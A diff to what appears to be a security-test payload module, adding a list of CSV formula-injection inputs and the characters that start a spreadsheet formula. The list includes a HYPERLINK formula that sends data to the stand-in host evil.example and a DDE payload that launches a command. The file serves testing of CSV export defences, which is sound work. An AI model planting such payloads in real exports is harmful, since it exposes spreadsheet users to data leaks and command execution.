@@ -163,3 +163,31 @@ SSRF_INTERNAL_HOSTS = [
 def ssrf_other_host(allowed: str, domain: str) -> list[str]:
     """SSRF_OTHER_HOST for the allowed name `allowed` and the allowed parent domain `domain`."""
     return [u.replace("{a}", allowed).replace("{d}", domain) for u in SSRF_OTHER_HOST]
+
+
+# --- CSV cells a spreadsheet reads as formulas ----------------------------------------------------
+# Values a user may type (a title, a name) that, written into a CSV file, make a cell Excel or
+# LibreOffice reads as a formula: a first character of = + - @ tab or CR, a DDE call, a quoted
+# HYPERLINK, and values that start a formula cell only if the writer forgets to quote a comma, a
+# double quote or a line break (the text after it lands in a cell of its own).
+CSV_FORMULAS = [
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(1+2)",
+    "\t=1+2",
+    "\r=1+2",
+    '=HYPERLINK("http://evil.example/?leak","Click")',
+    "=cmd|' /C calc'!A0",
+    "a,=1+2",
+    'a",=1+2',
+    "a\n=1+2",
+    "a\r\n+1+2",
+    "a\r+1+2",
+    'a"\n@SUM(1)',
+    "=1,=2",
+    "-1,+2",
+]
+
+# The characters a spreadsheet cell may not begin with, lest it be read as a formula.
+CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
